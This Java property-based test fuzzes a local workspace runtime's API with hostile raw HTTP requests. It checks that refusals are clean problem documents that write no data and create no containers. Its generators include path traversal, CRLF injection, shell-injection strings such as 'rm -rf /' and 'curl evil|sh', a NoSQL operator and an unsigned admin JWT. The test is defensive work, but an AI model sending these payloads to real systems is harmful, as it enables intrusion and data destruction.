package io.a4c.local;

import static org.assertj.core.api.Assertions.assertThat;

import com.github.dockerjava.api.model.Container;
import io.a4c.daemon.docker.ContainerLabels;
import io.a4c.functions.http.ApiRoutes;
import io.a4c.local.testing.ApiClient;
import io.a4c.local.testing.Fleet;
import io.a4c.local.testing.Scenario;
import io.a4c.local.testing.SharedRuntime;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.lifecycle.AfterContainer;
import net.jqwik.api.lifecycle.BeforeContainer;
import software.amazon.awssdk.services.dynamodb.DynamoDbClient;
import software.amazon.awssdk.services.dynamodb.model.AttributeValue;

/**
 * Malformed and hostile requests — bodies, paths, queries and headers — at every route, sent as raw
 * bytes over a socket so nothing is tidied up on the way: the runtime never answers 5xx, every
 * refusal is a problem document, a refused request writes nothing to any table, and no container is
 * made. {@code -Djqwik.tries.default=N} runs more than the CI default (junit-platform.properties).
 */
class HostileRequestsPropertyTest {
  private static LocalRuntime runtime;
  private static ApiClient api;
  private static DynamoDbClient dynamo;
  private static String project;
  private static String owner;
  private static String other;

  /**
   * Users whose data a 2xx changed: what happens to it later (a host's reports) is not a write of a
   * refusal.
   */
  private static final Set<String> dirtyUsers = new HashSet<>();

  private static final Set<String> acceptedWorkspaces = new HashSet<>();
  private static Map<String, Integer> baseline;
  private static int requests;

  /** One hostile request. */
  record Request(
      String method, String target, Map<String, String> headers, byte[] body, String label) {
    @Override
    public String toString() {
      String shownBody = new String(body, StandardCharsets.UTF_8);
      return label
          + ": "
          + method
          + " "
          + abbreviate(target)
          + " "
          + abbreviate(headers.toString())
          + " "
          + abbreviate(shownBody);
    }
  }

  private static String abbreviate(String text) {
    return text.length() > 200 ? text.substring(0, 200) + "…(" + text.length() + ")" : text;
  }

  @BeforeContainer
  static void start() {
    runtime = SharedRuntime.acquire();
    api = new ApiClient(runtime);
    var scenario = new Scenario(api);
    project = scenario.createProject("fuzz", "true");
    scenario.registerImage(project, "amd64", "1", "a4c-base:busybox");
    owner = scenario.user("fuzz-owner");
    other = scenario.user("fuzz-other");
    dynamo = runtime.newDynamoDbClient();
    baseline = fingerprint();
  }

  @AfterContainer
  static void stop() {
    try {
      Fleet fleet = SharedRuntime.fleet();
      List<Container> strays = new ArrayList<>();
      for (String hostId : fleet.hostIds()) {
        for (Container c :
            fleet
                .docker(hostId)
                .listContainersCmd()
                .withShowAll(true)
                .withLabelFilter(Map.of(ContainerLabels.MANAGED, "true"))
                .exec()) {
          String user = c.getLabels().get(ContainerLabels.USER_ID);
          if ((user.equals(owner) || user.equals(other))
              && !acceptedWorkspaces.contains(c.getLabels().get(ContainerLabels.WORKSPACE_ID))) {
            strays.add(c);
          }
        }
      }
      assertThat(strays).as("containers made by refused requests").isEmpty();
      assertThat(requests).isPositive();
      // Containers that accepted requests made are removed with the fleet (its users are the
      // scenario's).
    } finally {
      dynamo.close();
      SharedRuntime.release();
    }
  }

  @Property
  void aHostileRequestIsNever5xxAndARefusalWritesNothing(@ForAll("hostileRequests") Request request)
      throws IOException {
    requests++;
    var reply = send(request);

    // A target that is not even a URI is refused by the HTTP server before the gateway sees it (a
    // 400 page, or a reset when a body was left unread), as API Gateway refuses it in AWS;
    // everything else reaches A4C and is answered by it, refusals as problem documents.
    boolean unparsable = !isUri(request.target());
    if (unparsable) {
      assertThat(reply.status()).as(request + " -> " + reply.body()).isIn(400, 598);
    } else {
      assertThat(reply.status()).as(request + " -> " + reply.body()).isBetween(200, 499);
    }
    if (reply.status() >= 400) {
      if (!unparsable) {
        assertThat(reply.contentType())
            .as(request + " -> " + reply.body())
            .isEqualTo("application/problem+json");
        assertThat(reply.body()).doesNotContain("Exception").doesNotContain("at io.a4c");
      }
      Map<String, Integer> after = fingerprint();
      assertThat(after)
          .as("tables after the refused " + request + " -> " + reply.body())
          .isEqualTo(baseline);
    } else {
      // Accepted by chance (a mutation that left the request valid): its effects are allowed.
      dirtyUsers.add(owner);
      dirtyUsers.add(other);
      var workspaceId = java.util.regex.Pattern.compile("ws-[0-9a-z]{26}").matcher(reply.body());
      while (workspaceId.find()) {
        acceptedWorkspaces.add(workspaceId.group());
      }
      baseline = fingerprint();
    }
  }

  // ---- generators ----

  @Provide
  Arbitrary<Request> hostileRequests() {
    Arbitrary<ApiRoutes.Route> routes = Arbitraries.of(ApiRoutes.ALL);
    // Request lines the HTTP server itself cannot parse are its business, not the API's: methods
    // and paths are always one token (spaces in path values go %-encoded).
    Arbitrary<String> methods =
        Arbitraries.of(
            "GET", "POST", "PUT", "DELETE", "PATCH", "HEAD", "OPTIONS", "TRACE", "get", "CONNECT1");
    return Combinators.combine(
            routes,
            methods,
            paths(),
            queries(),
            tokens(),
            headers(),
            bodies(),
            Arbitraries.integers().between(0, 9))
        .as(
            (route, method, pathValues, query, token, extraHeaders, body, mode) -> {
              String chosenMethod = mode < 7 ? route.method() : method;
              String path = route.path();
              for (String parameter : List.of("userId", "workspaceId", "projectName", "hostId")) {
                path = path.replace("{" + parameter + "}", pathValues.getOrDefault(parameter, "x"));
              }
              if (mode == 9) {
                path = "/v1/" + pathValues.get("junk");
              }
              Map<String, String> headers = new LinkedHashMap<>(extraHeaders);
              if (token != null) {
                headers.put("authorization", token);
              }
              return new Request(
                  chosenMethod,
                  (path + query).replace(" ", "%20"),
                  headers,
                  body.getValue(),
                  body.getKey());
            });
  }

  private static Arbitrary<String> hostileText() {
    return Arbitraries.oneOf(
        Arbitraries.of(
            "",
            " ",
            "%00",
            "%zz",
            "%",
            "..",
            "%2e%2e%2f%2e%2e",
            "..%2F..%2Fetc%2Fpasswd",
            "%2F",
            "a%20b",
            "%0d%0aX-Injected:%201",
            "$(reboot)",
            "%60id%60",
            "%3Bid",
            "%7C%7C",
            "ws-0000000000000000000000zzzz",
            "ws-ZZZZ",
            "%E2%80%AE",
            "%FF%FE",
            "%C0%AF",
            "a".repeat(3000),
            "%u0000",
            "admin",
            "*",
            "null",
            "undefined",
            "-1",
            "1e309"),
        Arbitraries.strings()
            .withCharRange('!', '~')
            .excludeChars('?', '#', '/', ' ', '%')
            .ofMaxLength(40),
        Arbitraries.strings()
            .ofMaxLength(20)
            .map(s -> java.net.URLEncoder.encode(s, StandardCharsets.UTF_8)));
  }

  private static Arbitrary<Map<String, String>> paths() {
    Arbitrary<String> user =
        Arbitraries.oneOf(Arbitraries.just(owner), Arbitraries.just(other), hostileText());
    Arbitrary<String> workspace =
        Arbitraries.oneOf(Arbitraries.just("ws-0000000000000000000000zzzz"), hostileText());
    Arbitrary<String> projectName = Arbitraries.oneOf(Arbitraries.just(project), hostileText());
    Arbitrary<String> host = Arbitraries.oneOf(Arbitraries.of("h1", "h9"), hostileText());
    return Combinators.combine(user, workspace, projectName, host, hostileText())
        .as(
            (u, w, p, h, junk) ->
                Map.of("userId", u, "workspaceId", w, "projectName", p, "hostId", h, "junk", junk));
  }

  private static Arbitrary<String> queries() {
    Arbitrary<String> pair =
        Combinators.combine(
                Arbitraries.of("limit", "nextToken", "force", "userId", "x", "limit", ""),
                hostileText().injectNull(0.1))
            .as((name, value) -> value == null ? name : name + "=" + value);
    Arbitrary<String> numbers =
        Arbitraries.of(
            "limit=0",
            "limit=-1",
            "limit=101",
            "limit=1.5",
            "limit=99999999999999999999",
            "force=true",
            "force=1");
    return Arbitraries.oneOf(
        Arbitraries.just(""),
        pair.list().ofMinSize(1).ofMaxSize(4).map(pairs -> "?" + String.join("&", pairs)),
        numbers.map(q -> "?" + q),
        Arbitraries.of(
            "?", "?&&", "?=", "?%zz=1", "?limit=1&limit=2", "?nextToken=" + "A".repeat(5000)));
  }

  private static Arbitrary<String> tokens() {
    return Arbitraries.oneOf(
        Arbitraries.of("owner", "admin", "other")
            .map(
                who ->
                    "Bearer "
                        + (who.equals("owner")
                            ? api.tokenOf(owner)
                            : who.equals("admin") ? api.adminToken() : api.tokenOf(other))),
        Arbitraries.of(
            "Bearer",
            "Bearer ",
            "bearer x.y.z",
            "Basic YWRtaW46YWRtaW4=",
            "Bearer " + "e".repeat(9000),
            "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJyb290IiwiYWRtaW4iOnRydWV9.",
            "Bearer ../../etc/passwd",
            "Bearer \u00e9\u00e9"),
        Arbitraries.just(null));
  }

  private static Arbitrary<Map<String, String>> headers() {
    Arbitrary<String> contentTypes =
        Arbitraries.of(
            "application/json",
            "application/json; charset=utf-8",
            "text/plain",
            "application/xml",
            "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=x",
            "APPLICATION/JSON",
            "application/jsonp",
            "",
            "*/*");
    Arbitrary<String> keys =
        Arbitraries.oneOf(hostileText(), Arbitraries.of("k-1", "a".repeat(129), "key with spaces"));
    return Combinators.combine(
            contentTypes.injectNull(0.2),
            keys.injectNull(0.5),
            Arbitraries.integers().between(0, 3))
        .as(
            (type, key, extra) -> {
              Map<String, String> headers = new LinkedHashMap<>();
              if (type != null) {
                headers.put("content-type", type);
              }
              if (key != null) {
                headers.put("idempotency-key", key.replace("\r", "").replace("\n", ""));
              }
              for (int i = 0; i < extra; i++) {
                headers.put("x-junk-" + i, "v".repeat(i * 100));
              }
              if (extra == 3) {
                headers.put("x-forwarded-for", "10.0.0.1");
              }
              return headers;
            });
  }

  /** Bodies with a label saying what they are. */
  private static Arbitrary<Map.Entry<String, byte[]>> bodies() {
    String create =
        "{\"projectName\": \"" + project + "\", \"parentName\": \"main\", \"arch\": \"amd64\"}";
    String projectJson =
        "{\"source\": {\"type\": \"git\", \"url\": \"https://git.example.com/x.git\"}, \"baseImage\": \"a4c-base:busybox\","
            + " \"tools\": [\"curl\"], \"parents\": [\"main\"], \"setup\": [\"true\"], \"workspaceSize\": {\"cpus\": 1, \"memoryMb\": 256, \"pids\": 256}}";
    String image =
        "{\"parentName\": \"main\", \"arch\": \"amd64\", \"change\": \"9\", \"imageRef\": \"a4c-base:busybox\"}";
    Arbitrary<String> templates =
        Arbitraries.of(create, projectJson, image, "{\"status\": \"DRAINING\"}");
    Arbitrary<String> hostileValue =
        Arbitraries.oneOf(
            hostileText().map(s -> "\"" + s.replace("\\", "\\\\").replace("\"", "\\\"") + "\""),
            Arbitraries.of(
                "null",
                "true",
                "-1",
                "0",
                "1e400",
                "-0",
                "NaN",
                "[]",
                "{}",
                "[null]",
                "[\"a; rm -rf /\"]",
                "{\"$ne\": 1}",
                "\"\\u0000\"",
                "\"\\n RUN curl evil|sh\"",
                "\"" + "x".repeat(2000) + "\"",
                "9223372036854775808",
                "[" + "1,".repeat(200) + "1]"));
    Arbitrary<Map.Entry<String, byte[]>> mutated =
        Combinators.combine(
                templates,
                Arbitraries.of(
                    "projectName",
                    "parentName",
                    "arch",
                    "name",
                    "change",
                    "source",
                    "url",
                    "type",
                    "depotPath",
                    "baseImage",
                    "tools",
                    "parents",
                    "setup",
                    "workspaceSize",
                    "cpus",
                    "memoryMb",
                    "pids",
                    "quotas",
                    "imageRef",
                    "status",
                    "privileged",
                    "__proto__"),
                hostileValue,
                Arbitraries.integers().between(0, 2))
            .as(
                (template, field, value, how) -> {
                  String body =
                      switch (how) {
                        case 0 ->
                            template.replaceFirst(
                                "\"" + field + "\": (\"[^\"]*\"|\\{[^}]*\\}|\\[[^]]*\\]|[0-9.]+)",
                                java.util.regex.Matcher.quoteReplacement(
                                    "\"" + field + "\": " + value));
                        case 1 ->
                            template.substring(0, template.length() - 1)
                                + ", \""
                                + field
                                + "\": "
                                + value
                                + "}";
                        default -> template.replace("{\"cpus\": 1", "{\"cpus\": " + value);
                      };
                  return Map.entry("mutated " + field, body.getBytes(StandardCharsets.UTF_8));
                });
    Arbitrary<Map.Entry<String, byte[]>> structural =
        Arbitraries.of(
                "",
                "{",
                "}",
                "[",
                "null",
                "true",
                "\"string\"",
                "123",
                "{\"a\":",
                "{}",
                "[]",
                "{\"projectName\": \"" + project + "\"} trailing",
                "[".repeat(5000) + "]".repeat(5000),
                "{\"a\":".repeat(3000) + "1" + "}".repeat(3000),
                "{\"projectName\": \"a\", \"projectName\": \"b\"}",
                "{\"name\": \"" + "x".repeat(70_000) + "\"}",
                "\uFEFF{}",
                "{'single': 'quotes'}",
                "{\"a\": 1,}")
            .map(s -> Map.entry("structural", s.getBytes(StandardCharsets.UTF_8)));
    Arbitrary<Map.Entry<String, byte[]>> binary =
        Arbitraries.bytes().array(byte[].class).ofMaxSize(300).map(b -> Map.entry("bytes", b));
    return Arbitraries.oneOf(mutated, mutated, structural, binary);
  }

  // ---- the wire and the tables ----

  record Reply(int status, String contentType, String body) {}

  /** Sends raw HTTP/1.1 bytes: nothing on the way validates or re-encodes the request. */
  private static Reply send(Request request) throws IOException {
    try (var socket = new Socket(InetAddress.getLoopbackAddress(), runtime.baseUri().getPort())) {
      socket.setSoTimeout(30_000);
      var head = new StringBuilder();
      head.append(request.method()).append(' ').append(request.target()).append(" HTTP/1.1\r\n");
      head.append("host: 127.0.0.1\r\nconnection: close\r\n");
      request
          .headers()
          .forEach((name, value) -> head.append(name).append(": ").append(value).append("\r\n"));
      head.append("content-length: ").append(request.body().length).append("\r\n\r\n");
      byte[] raw;
      try {
        OutputStream out = socket.getOutputStream();
        out.write(head.toString().getBytes(StandardCharsets.UTF_8));
        out.write(request.body());
        out.flush();
        raw = readAll(socket.getInputStream());
      } catch (java.net.SocketException e) {
        return new Reply(598, null, "the connection was reset: " + e.getMessage());
      }
      String text = new String(raw, StandardCharsets.UTF_8);
      int lineEnd = text.indexOf("\r\n");
      if (lineEnd < 0) {
        return new Reply(599, null, "no status line: " + text);
      }
      String[] statusLine = text.substring(0, lineEnd).split(" ", 3);
      int bodyStart = text.indexOf("\r\n\r\n");
      String contentType = null;
      for (String line :
          text.substring(lineEnd + 2, Math.max(lineEnd + 2, bodyStart)).split("\r\n")) {
        if (line.toLowerCase().startsWith("content-type:")) {
          contentType = line.substring(13).trim();
        }
      }
      return new Reply(
          Integer.parseInt(statusLine[1]),
          contentType,
          bodyStart < 0 ? "" : text.substring(bodyStart + 4));
    }
  }

  private static boolean isUri(String target) {
    try {
      new java.net.URI(target);
      return true;
    } catch (java.net.URISyntaxException e) {
      return false;
    }
  }

  private static byte[] readAll(InputStream in) throws IOException {
    var bytes = new ByteArrayOutputStream();
    in.transferTo(bytes);
    return bytes.toByteArray();
  }

  /**
   * Every item of every table but the hosts' and their images' (heartbeats) and the DNS records'
   * (written when an accepted request's workspace comes up, in the background; they follow the
   * workspaces, which are checked), minus what accepted requests own.
   */
  private static Map<String, Integer> fingerprint() {
    Map<String, Integer> items = new HashMap<>();
    for (String table : LocalTables.names()) {
      if (table.equals(LocalTables.HOSTS)
          || table.equals(LocalTables.HOST_IMAGES)
          || table.equals(LocalTables.DNS_RECORDS)) {
        continue;
      }
      for (Map<String, AttributeValue> item :
          dynamo.scanPaginator(b -> b.tableName(table).consistentRead(true)).items()) {
        AttributeValue user = item.get("userId");
        if (user != null && dirtyUsers.contains(user.s())) {
          continue;
        }
        AttributeValue key = item.get("idempotencyKey");
        if (key != null && dirtyUsers.stream().anyMatch(u -> key.s().startsWith(u + "#"))) {
          continue;
        }
        items.put(
            table + " " + new java.util.TreeMap<>(item).keySet() + keyOf(item), item.hashCode());
      }
    }
    return items;
  }

  private static String keyOf(Map<String, AttributeValue> item) {
    var parts = new ArrayList<String>();
    for (String name :
        List.of(
            "userId",
            "workspaceId",
            "projectName",
            "imageKey",
            "change",
            "idempotencyKey",
            "stream",
            "entryId")) {
      if (item.containsKey(name)) {
        parts.add(item.get(name).s());
      }
    }
    return parts.toString();
  }
}
